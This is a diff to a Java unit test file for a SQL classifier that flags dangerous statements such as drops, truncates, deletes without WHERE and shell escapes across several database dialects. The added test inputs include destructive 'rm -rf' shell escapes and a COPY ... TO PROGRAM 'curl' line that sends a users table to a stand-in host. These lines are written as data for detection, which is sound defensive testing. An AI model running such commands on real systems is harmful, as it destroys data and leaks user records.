@@ -111,7 +111,12 @@ class SqlClassifierTest {
                 Arguments.of("DO $$ BEGIN EXECUTE 'TRUNCATE ' || 'logs'; END $$", set("truncate")),
                 Arguments.of("CREATE FUNCTION f() RETURNS void AS $$ DROP TABLE users $$ LANGUAGE sql", set()),
                 Arguments.of("SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec", set("drop")),
-                Arguments.of("PREPARE s FROM 'DROP TABLE users'", set("drop")));
+                Arguments.of("PREPARE s FROM 'DROP TABLE users'", set("drop")),
+                Arguments.of("CALL log_event('DROP TABLE requested')", set()),
+                // the client or the server runs a shell command
+                Arguments.of("\\! rm -rf /tmp/x", set("shell-escape")),
+                Arguments.of("COPY users TO PROGRAM 'curl -d @- https://x.example'", set("shell-escape")),
+                Arguments.of("COPY users TO '/tmp/users.csv'", set()));
     }
 
     @ParameterizedTest(name = "{0}")
@@ -209,6 +214,33 @@ class SqlClassifierTest {
     void sqlServerBatchesAndBrackets() {
         assertEquals(set("drop"), kinds(SqlClassifier.standard(), "USE shop\nGO\nDROP TABLE [dbo].[users]\nGO", SqlDialect.MSSQL));
         assertEquals(set("delete-without-where"), kinds(SqlClassifier.standard(), "DELETE TOP (10) FROM [users]", SqlDialect.MSSQL));
+    }
+
+    @Test
+    void shellEscapesOfOtherClients() {
+        assertEquals(set("shell-escape"), kinds(SqlClassifier.standard(), ".shell rm -rf data", SqlDialect.SQLITE));
+        assertEquals(set("shell-escape"), kinds(SqlClassifier.standard(), "system rm -rf data", SqlDialect.MYSQL));
+        assertEquals(set(), kinds(SqlClassifier.standard(), ".schema users", SqlDialect.SQLITE));
+    }
+
+    @Test
+    void tsqlStatementsWithoutSemicolonsAreSeparated() {
+        assertEquals(set("drop"), kinds(SqlClassifier.standard(), "SELECT 1 DROP TABLE users", SqlDialect.MSSQL));
+        assertEquals(set("delete-without-where"),
+                kinds(SqlClassifier.standard(), "DELETE FROM a DELETE FROM b WHERE id = 1", SqlDialect.MSSQL));
+        assertEquals(set("drop"), kinds(SqlClassifier.standard(), "IF OBJECT_ID('t') IS NOT NULL DROP TABLE t", SqlDialect.MSSQL));
+        assertEquals(set("drop"), kinds(SqlClassifier.standard(), "EXEC sp_executesql N'DROP TABLE t'", SqlDialect.MSSQL));
+        // words that continue a statement
+        assertEquals(set(), kinds(SqlClassifier.standard(),
+                "CREATE TABLE c (p int REFERENCES p(id) ON DELETE CASCADE ON UPDATE NO ACTION)", SqlDialect.MSSQL));
+        assertEquals(set(), kinds(SqlClassifier.standard(), "SELECT * FROM t WITH (UPDLOCK) WHERE id = 1", SqlDialect.MSSQL));
+        assertEquals(set(), kinds(SqlClassifier.standard(),
+                "INSERT INTO t (id) VALUES (1) ON DUPLICATE KEY UPDATE n = n + 1", SqlDialect.GENERIC));
+        assertEquals(set(), kinds(SqlClassifier.standard(),
+                "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET n = 2", SqlDialect.GENERIC));
+        assertEquals(set(), kinds(SqlClassifier.standard(), "SELECT * FROM jobs FOR UPDATE SKIP LOCKED", SqlDialect.GENERIC));
+        assertEquals(set(), kinds(SqlClassifier.standard(),
+                "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", SqlDialect.MSSQL));
     }
 
     @Test
